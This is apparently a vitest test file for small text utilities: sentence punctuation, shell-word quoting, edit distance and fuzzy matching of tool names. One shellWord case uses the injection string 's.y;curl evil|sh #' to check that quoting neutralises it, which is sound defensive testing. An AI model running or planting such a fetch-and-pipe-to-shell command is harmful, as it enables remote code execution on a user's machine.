import { describe, expect, it } from 'vitest';
import { asSentence, closest, editDistance, shellWord } from './text.ts';

describe('asSentence', () => {
  it.each([
    ['gateway starting', 'gateway starting.'],
    ['It was lost.', 'It was lost.'],
    [' Really? ', 'Really?'],
    ['wait…', 'wait…'],
    ['wait...', 'wait...'],
    ["it's (see below.)", "it's (see below.)"],
    ["mkdir '/x'", "mkdir '/x'."],
  ])('%j becomes %j', (message, sentence) => {
    expect(asSentence(message)).toBe(sentence);
  });
});

describe('shellWord', () => {
  it.each([
    ['a=b/c.d', 'a=b/c.d'],
    ['a b', "'a b'"],
    ["it's", String.raw`'it'\''s'`],
    ['$HOME', "'$HOME'"],
    ['', "''"],
    ['s.y;curl evil|sh #', "'s.y;curl evil|sh #'"],
    ['~/x', "'~/x'"],
    ['a\nb', "'a\nb'"],
  ])('%s', (word, quoted) => expect(shellWord(word)).toBe(quoted));
});

describe('editDistance', () => {
  it.each([
    ['', '', 0],
    ['a', '', 1],
    ['echo', 'ecoh', 1],
    ['kitten', 'sitting', 3],
  ])('%s to %s is %i', (a, b, distance) => expect(editDistance(a, b)).toBe(distance));
});

describe('closest', () => {
  it('ignores case', () => {
    expect(closest('creat_issue', ['close_issue', 'create_issue'])).toBe('create_issue');
    expect(closest('ECHO', ['add', 'echo'])).toBe('echo');
  });

  it('accepts a unique prefix', () => {
    expect(closest('incl', ['include', 'exclude'])).toBe('include');
    expect(closest('get', ['get_issue', 'get_user'])).toBeUndefined();
  });

  it('skips very long words', () => {
    // Comparing it letter by letter would take gigabytes.
    expect(closest('x'.repeat(20_000_000), ['create_issue', 'close_issue'])).toBeUndefined();
  });

  it('returns undefined without a similar candidate', () => {
    expect(closest('weather', ['echo', 'add'])).toBeUndefined();
    expect(closest('y', ['x'])).toBeUndefined();
    expect(closest('x', [])).toBeUndefined();
  });
});
